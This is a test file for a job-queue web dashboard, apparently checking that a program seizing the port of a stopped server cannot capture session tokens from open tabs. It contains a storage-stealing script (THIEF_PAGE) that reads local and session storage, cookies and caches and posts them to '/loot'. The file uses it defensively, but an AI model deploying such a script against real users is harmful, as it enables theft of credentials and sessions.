/** Tests sessions of open dashboards, also after another program has taken the port of the server. */

import { afterAll, expect } from 'bun:test';
import { readFileSync } from 'node:fs';
import { createServer, type IncomingHttpHeaders } from 'node:http';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { fixedAddress, launchBrowser, logIn, openDashboard } from '../support/browser.ts';
import { connectTo } from '../support/http.ts';
import { enqueue, type Sandbox, until } from '../support/queuectl.ts';
import { sandboxTest as test } from '../support/sandbox-test.ts';

const browser = await launchBrowser();
afterAll(() => browser.close());

/** A page that sends everything it can read to the program that serves it. */
const THIEF_PAGE = `<script>
  (async () => {
    const databases = await indexedDB.databases();
    const caches_ = self.caches ? await caches.keys() : [];
    const loot = { local: { ...localStorage }, session: { ...sessionStorage }, cookie: document.cookie,
      href: location.href, databases, caches: caches_ };
    await fetch('/loot', { method: 'POST', body: JSON.stringify(loot) });
  })();
</script>`;

interface Impostor {
  /** All requests that the program has received. */
  received: { url: string; headers: IncomingHttpHeaders; body: string }[];
  close(): Promise<void>;
}

/** Starts a program that listens on the port of a server that has ended. */
async function takePort(port: number): Promise<Impostor> {
  const received: Impostor['received'] = [];
  const server = createServer((incoming, outgoing) => {
    let body = '';
    incoming.on('data', (data) => {
      body += data;
    });
    incoming.on('end', () => {
      received.push({ url: incoming.url!, headers: incoming.headers, body });
      const isPage = incoming.headers.accept?.includes('text/html') ?? false;
      outgoing.writeHead(200, { 'content-type': isPage ? 'text/html' : 'application/json' });
      outgoing.end(isPage ? THIEF_PAGE : '{}');
    });
  });
  await new Promise<void>((resolve) => server.listen(port, '127.0.0.1', resolve));
  return {
    received,
    close: () =>
      new Promise((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}

const tokensOf = (box: Sandbox): string[] =>
  ['token', 'token-read-only'].map((name) => readFileSync(join(box.home, 'queue.db.d', name), 'utf8').trim());

/** Returns everything that a page of this origin has stored. */
const storedData = (page: Page): Promise<string> =>
  page.evaluate(`(async () => JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie,
    await indexedDB.databases(), await caches.keys(), location.href, history.state]))()`);

test('the next program on the port gets no token, and nothing that a restarted server accepts', async (box) => {
  const flags = await fixedAddress();
  const { page, origin, token, kill } = await openDashboard(box, browser, ...flags);
  await page.locator('.live-live').waitFor();
  // Another tab of the browser is logged in, although it was opened without a token.
  const second = await page.context().newPage();
  await second.goto(`${origin}/jobs`);
  await second.getByText('No jobs yet').waitFor();
  const tokens = tokensOf(box);
  expect(tokens).toContain(token);
  for (const tab of [page, second])
    for (const one of tokens) expect(await storedData(tab)).not.toContain(one);
  expect(await page.context().cookies()).toEqual([]);

  await kill();
  const port = Number(new URL(origin).port);
  const impostor = await takePort(port);
  await until(
    () => impostor.received.some(({ headers }) => headers.authorization),
    'an open tab sends it a request',
  );
  await page.reload();
  await until(() => impostor.received.some(({ url }) => url === '/loot'), 'its page reads the storage');
  await impostor.close();

  const all = JSON.stringify(impostor.received);
  for (const one of tokens) expect(all).not.toContain(one);
  const loot = JSON.parse(impostor.received.find(({ url }) => url === '/loot')!.body);
  expect([loot.session, loot.cookie, loot.databases, loot.caches]).toEqual([{}, '', [], []]);
  const nextServer = await connectTo(box.start(['serve', ...flags]));
  expect(nextServer.token).toBe(token);
  // Every long word that the impostor has received is tried as a token, to read and to log in.
  const words = new Set(all.match(/[\w-]{20,}/g));
  expect([...words].some((word) => /^[0-9a-f]{12}-[\w-]{43}$/.test(word))).toBe(true);
  for (const word of words) {
    const read = await nextServer.call('GET', '/api/v1/jobs', { token: word });
    const login = await nextServer.call('POST', '/api/v1/session', { token: word });
    expect([401, 429]).toContain(read.status);
    expect([401, 429]).toContain(login.status);
  }
  // A login in one tab also applies to the other.
  await page.goto(`${origin}/jobs`);
  await logIn(page, token, 'The server was restarted');
  await second.goto(`${origin}/jobs`);
  await enqueue(box, 'seen', 'true');
  for (const tab of [page, second]) await tab.locator('[data-row="seen"]').waitFor();
});

test('login and logout in one tab apply to all tabs, and logout also ends the session on the server', async (box) => {
  const { page, origin, api, token } = await openDashboard(box, browser);
  const second = await page.context().newPage();
  await second.goto(`${origin}/jobs`);
  await second.locator('.frame').waitFor();
  const secret = JSON.parse(await storedData(page))[0]['queuectl-session '];
  const headers = { authorization: `Bearer ${secret}` };
  expect((await fetch(`${api}api/v1/jobs`, { headers })).status).toBe(200);
  await second.getByRole('button', { name: 'Log out' }).click();
  for (const tab of [page, second]) await tab.getByText('You have logged out').waitFor();
  expect((await fetch(`${api}api/v1/jobs`, { headers })).status).toBe(401);
  await logIn(page, `${origin}/#token=${token}`, 'You have logged out');
  await second.locator('.frame').waitFor();
  // A new token ends the sessions of the old one.
  box.start(['serve', '--port', '0', '--rotate-token']);
  for (const tab of [page, second]) await tab.getByText('Your session has ended').waitFor();
  // The read-only token opens a read-only dashboard, even if the server allows changes.
  await logIn(page, tokensOf(box)[1]!, 'Your session has ended');
  await page.getByText('Read-only', { exact: true }).waitFor();
  expect(await page.getByRole('button', { name: 'New job' }).count()).toBe(0);
});
